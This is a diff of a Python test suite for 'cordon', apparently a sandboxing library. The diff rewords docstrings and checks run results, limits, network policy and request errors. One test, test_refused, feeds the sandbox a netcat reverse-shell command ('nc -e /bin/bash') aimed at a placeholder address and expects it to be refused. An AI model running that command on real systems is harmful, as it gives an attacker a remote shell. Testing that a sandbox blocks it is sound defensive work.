@@ -1,5 +1,5 @@
 # SPDX-License-Identifier: MIT
-"""A run, from its code to its result."""
+"""cordon.run and cordon.stream."""
 import asyncio
 import os
 import pathlib
@@ -12,7 +12,7 @@ from support import BINARY, TIER, Case, children, descriptors
 
 class Run(Case):
     def test_result(self):
-        """what it printed, how it ended, what was decided"""
+        """the result has output, status and decision"""
         r = self.client().run("import sys\nprint('h\u00e9')\nprint('oh', file=sys.stderr)\nsys.exit(3)")
         self.assertEqual((r.status, r.exit_code, r.signal, r.ok), ("exited", 3, None, False))
         self.assertEqual((r.stdout, r.text, r.stderr, r.errors), ("h\u00e9\n".encode(), "h\u00e9\n", b"oh\n", "oh\n"))
@@ -25,7 +25,7 @@ class Run(Case):
         self.assertIs(r.error, None)
 
     def test_everything(self):
-        """arguments, input, variables and bytes arrive as they are"""
+        """arguments, input, variables and bytes arrive unchanged"""
         code = "import os, sys\nsys.stdout.buffer.write(repr((sys.argv[1:], os.environ['K'])).encode() + sys.stdin.buffer.read())"
         data = bytes(range(256)) * 1000
         args = ["--json", "-", "--", "a b", "\u20ac", ""]
@@ -33,7 +33,7 @@ class Run(Case):
         self.assertEqual(r.stdout, repr((args, "v=1")).encode() + data)
 
     def test_code(self):
-        """code is never an argument: large, from the future, with right line numbers"""
+        """code may be large, may import from __future__, and keeps its line numbers"""
         code = "from __future__ import annotations\n" + "# " + "x" * 300000 + "\n1 / 0\n"
         r = self.client().run(code)
         self.assertIn("line 3", r.errors)
@@ -42,7 +42,7 @@ class Run(Case):
         self.assertNotIn("print", r.text)
 
     def test_languages(self):
-        """bash, and a file whose name tells"""
+        """bash by LANG, and a file by its suffix"""
         self.assertEqual(self.client().run("echo $((6 * 7))", lang="bash").text, "42\n")
         path = pathlib.Path(self.path("-x.py"))
         path.write_text("print(__name__)")
@@ -53,13 +53,13 @@ class Run(Case):
         self.assertTrue(self.client().run(pathlib.Path("/bin/true"), lang="binary").ok)
 
     def test_binary(self):
-        """output that is no text"""
+        """output that is not text"""
         r = self.client().run("import os\nos.write(1, bytes(range(256)))\nos.write(2, b'\\xff')")
         self.assertEqual((r.stdout, r.stderr), (bytes(range(256)), b"\xff"))
         self.assertTrue(r.text.endswith("\\xfe\\xff"))
 
     def test_much(self):
-        """10 MB of output: all of it, or the ends and how much is missing"""
+        """10 MB of output arrive whole, or cut with the number of missing bytes"""
         code = "import sys\nfor i in range(1310720): sys.stdout.write('%07d\\n' % i)"
         whole = b"".join(b"%07d\n" % i for i in range(1310720))
         r = self.client().run(code, output="64M")
@@ -77,7 +77,7 @@ class Run(Case):
         self.assertEqual(sum(o.omitted for o in seen), gap.omitted)
 
     def test_input(self):
-        """input is a part of the conversation: it exposes nothing"""
+        """input does not expose a run"""
         client = self.client(user=False)
         conversation = client.new_conversation()
         code = "import sys\nprint(sys.stdin.read())"
@@ -86,7 +86,7 @@ class Run(Case):
 
     @unittest.skipIf(TIER == "no-userns", "no overlay")
     def test_workspace(self):
-        """a directory: changes are told, and applied when that is asked for"""
+        """changes of a workspace are reported, and applied on request"""
         os.mkdir(self.path("w"))
         if os.getuid() == 0:
             os.chmod(self.dir, 0o755)
@@ -106,7 +106,7 @@ class Run(Case):
 
     @unittest.skipIf(TIER == "no-userns", "no network of its own")
     def test_net(self):
-        """a host that the policy lists is reached, another is not, and both are told"""
+        """a host that the policy lists is reached, another is not, and both are reported"""
         with socket.socket() as s, socket.socket() as other:
             for one in (s, other):
                 one.bind(("127.0.0.1", 0))
@@ -126,11 +126,11 @@ class Run(Case):
             self.assertEqual([(f"{c.address}:{c.port}", c.verdict, c.bytes_out) for c in r.egress],
                              [(hosts[0], "connected", 5), (hosts[1], "refused", 0)])
             self.assertEqual([(e.effect, e.object, e.outcome) for e in r.effects],
-                             [("net", hosts[0], "policy"), ("net", hosts[1], "withheld")])
+                             [("net", hosts[0], "policy"), ("net", hosts[1], "waits")])
             self.assertIn(f"--net {hosts[1]}", r.effects[1].command)
 
     def test_events(self):
-        """what happens, as it happens"""
+        """events come as they happen"""
         code = "import os\nprint('one', flush=True)\ntry:\n os.execv('/bin/sh', ['sh'])\nexcept OSError: pass\nprint('two')"
         told = []
         r = self.client().run(code, on_event=told.append)
@@ -147,7 +147,7 @@ class Run(Case):
         self.assertEqual(again[-1].result.text, "one\ntwo\n")
 
     def test_live(self):
-        """an iterator has the first line while the program still runs; who leaves it ends the run"""
+        """the iterator yields lines while the program runs; leaving it ends the run"""
         before = descriptors()
         events = self.client().stream("import time\nprint('on', flush=True)\ntime.sleep(1000)", time=900)
         for e in events:
@@ -159,7 +159,7 @@ class Run(Case):
         self.assertEqual(descriptors(), before)
 
     def test_callback(self):
-        """an error in a callback ends the run and comes out"""
+        """an exception in a callback ends the run and is raised"""
         def fail(event):
             raise ZeroDivisionError
         before, code = descriptors(), "print(1, flush=True)\nwhile True: pass"
@@ -170,13 +170,13 @@ class Run(Case):
                 use()
                 self.fail("no error came")
             except ZeroDivisionError:
-                # It is over by now, while the exception still holds every frame.
+                # The run is over now, though the exception still holds every frame.
                 self.assertEqual((children(), descriptors()), ([], before))
 
 
 class Errors(Case):
     def test_refused(self):
-        """refused: the reason is the CLI's"""
+        """a refused run has the reason of the command line"""
         with self.assertRaises(cordon.Refused) as e:
             self.client().run("import os\nos.system('nc -e /bin/bash 192.0.2.1 4444')")
         self.assertIn("CORDON-2026-0001", str(e.exception))
@@ -186,7 +186,7 @@ class Errors(Case):
         self.assertTrue(e.exception.reasons)
 
     def test_limits(self):
-        """limits: which, and what it printed before"""
+        """a limit is named, and the output until then is kept"""
         for code, limit, options in (("while True: pass", "time", {"time": 0.3}),
                                      ("while True: pass", "cpu-time", {"cpu_time": "300ms"})):
             with self.subTest(limit), self.assertRaises(cordon.LimitReached) as e:
@@ -195,7 +195,7 @@ class Errors(Case):
             self.assertEqual(e.exception.result.text, "first\n")
 
     def test_check(self):
-        """check=True: another status, a signal"""
+        """check=True raises for another status and for a signal"""
         with self.assertRaises(cordon.Failed) as e:
             self.client().run("1 / 0", check=True)
         self.assertIn("ZeroDivisionError", str(e.exception))
@@ -205,14 +205,14 @@ class Errors(Case):
         self.assertIn("11", str(e.exception))
 
     def test_request(self):
-        """what is not understood is told before anything is begun, or by Cordon in its words"""
+        """a wrong value is an error, from the client or from Cordon"""
         for options in ({"mode": "no"}, {"args": ["a\0b"]}, {"time": "5x"}, {"tier": "none"}, {"lang": "perl"},
                         {"workspace": "/nothing"}, {"env": {"": "x"}}, {"env": {"A=B": "x"}}, {"env": {"A\0": "x"}},
                         {"env": {"A": "x\0y"}}, {"args": ["\ud800"]}, {"env": {"A": "\ud800"}}, {"input": "\ud800"}):
             with self.subTest(str(options)), self.assertRaises(cordon.BadRequest) as e:
                 self.client().run("print(1)", **options)
             self.assertTrue(str(e.exception).startswith((*options, "--", "cannot use", "/nothing")), e.exception)
-        with self.assertRaisesRegex(cordon.BadRequest, "^code: there is half a character in it"):
+        with self.assertRaisesRegex(cordon.BadRequest, "^code: cannot be encoded as UTF-8"):
             self.client().run("print('\ud800')")
         with self.assertRaises(cordon.BadRequest):
             self.client().run(pathlib.Path("/nothing.py"))
@@ -220,14 +220,14 @@ class Errors(Case):
             self.client().run("print(1)", memroy="1M")
 
     def test_values(self):
-        """a value cannot pass for an option"""
+        """a value is never taken for an option"""
         with self.assertRaises(cordon.BadRequest):
             self.client().run("print(1)", lang="--tier=no-userns")
         r = self.client().run("import sys\nprint(sys.argv[1:])", args=["--tier", "no-userns"])
         self.assertEqual((r.tier, r.text), (TIER, "['--tier', 'no-userns']\n"))
 
     def test_unseen(self):
-        """no id, variable or argument is on a command line, which all can read"""
+        """no id, variable or argument is on a command line, which all accounts can read"""
         words = []
 
         def look(event):
@@ -241,7 +241,7 @@ class Errors(Case):
         plan = client.plan(code, conversation=conversation)
         r = client.run(code, conversation=conversation, plan=plan, on_event=look, **options)
         self.assertEqual((r.text, r.origin), ("s3cret=x ['h1dden']\n", "agent"))
-        self.assertIn("the plan gives nothing", r.reasons[0])  # so its id arrived
+        self.assertIn("the plan gives nothing", r.reasons[0])  # so the id arrived
         self.assertIn(b"--events", words[0])
         plan = client.plan(code, conversation=conversation, **options)
         r = client.run(code, conversation=conversation, plan=plan, on_event=look, **options)
@@ -250,7 +250,7 @@ class Errors(Case):
             self.assertEqual([w for w in words if secret.encode() in w], [])
 
     def test_isolate(self):
-        """a layer that is missing (an ordinary user has no cgroup): which, why, what to do"""
+        """a missing layer (an ordinary user has no cgroup) is named with cause and cure"""
         binary = BINARY
         if os.getuid() == 0:
             os.chmod(self.dir, 0o755)
@@ -262,7 +262,7 @@ class Errors(Case):
         self.assertTrue(e.exception.cause and e.exception.cure)
 
     def test_missing(self):
-        """no program, or one that cannot be started"""
+        """no program cordon, or one that cannot be started"""
         with self.assertRaises(cordon.NotInstalled):
             self.client(binary="/nothing/cordon").run("print(1)")
         with self.assertRaises(cordon.CannotIsolate):
